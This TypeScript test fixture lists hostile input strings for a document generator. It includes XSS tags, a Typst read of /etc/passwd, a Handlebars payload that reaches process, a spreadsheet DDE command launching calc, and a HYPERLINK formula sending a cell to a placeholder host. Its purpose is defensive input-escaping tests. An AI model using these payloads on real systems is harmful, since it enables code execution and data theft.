const CONTROLS = Array.from({ length: 31 }, (_, code) => String.fromCharCode(code + 1)).join('');
/**
 * What somebody may type, on purpose or not, that a form of document could take for its own language. NUL and lone surrogates are not
 * among them: the database holds neither.
 */
export const HOSTILE_TEXTS = {
  typst: '#panic("typst") #read("/etc/passwd") $x^2$ *fuerte* _cursiva_ `crudo` <etiqueta> @cita \\ = Título // nota /* nota */ [a] {b}',
  html: '<script>alert(1)</script><img src=x onerror=alert(2)>"\'><b>&amp;&#x3C;</td></table>',
  handlebars: '{{{constructor.constructor "return process" }}} {{> letter}} {{#each goals}}x{{/each}} \\{{x}}',
  formulaEquals: '=1+1',
  formulaLink: '=HYPERLINK("http://ejemplo.invalid/?x="&A1,"pulse")',
  formulaPlus: '+1+1',
  formulaMinus: "-2+3+cmd|' /C calc'!A0",
  formulaAt: '@SUM(A1:A9)',
  formulaTab: '\t=1+1',
  formulaReturn: '\r=1+1',
  csv: 'uno;dos,"tres"\ncuatro\tcinco\r\nseis',
  bidi: 'Contrato \u202Efirmado\u202C \u2066aislado\u2069 \u200Bsin ancho\uFEFF עברית عربى',
  controls: `antes${CONTROLS}\u007F\u0085\u2028\u2029después`,
  xml: ']]><!--?xml?--><![CDATA[x]]> _x000D_ _x0041_ \uFFFE\uFFFF',
  emoji: '👩🏽‍🔧 puente 🏗️ \u{1F1F5}\u{1F1EA} e\u0301ñ',
  word: 'sinunsoloespacio'.repeat(30),
  long: 'Diez mil caracteres, ñandú y «comillas». '.repeat(244).slice(0, 10_000),
  spaces: '   ',
} as const;
export type HostileText = keyof typeof HOSTILE_TEXTS;
